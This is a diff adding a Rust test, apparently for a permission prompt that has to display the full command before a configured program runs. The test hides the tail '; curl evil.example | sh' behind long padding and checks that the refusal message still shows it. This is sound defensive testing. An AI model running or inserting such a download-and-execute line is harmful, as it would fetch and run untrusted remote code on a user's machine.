@@ -65,6 +65,17 @@ fn foreign_program_needs_permission_first() {
 }
 
 #[test]
+fn permission_shows_whole_command() {
+    let home = Home::new();
+    let end_of_script = "; curl evil.example | sh";
+    let long = format!("read -r args{}{end_of_script}", " && true".repeat(300));
+    home.write("mine.toml", &program().replace("read -r args;", &format!("{long};")));
+    let refused = run(&home, &[], &[("SHOP_TOKEN", TOKEN)]);
+    assert_eq!(refused.code, Some(2), "{refused:?}");
+    assert!(refused.err.contains(end_of_script), "{}", refused.err);
+}
+
+#[test]
 fn reports_missing_variable_before_run() {
     let home = Home::new();
     home.write("mine.toml", &program());
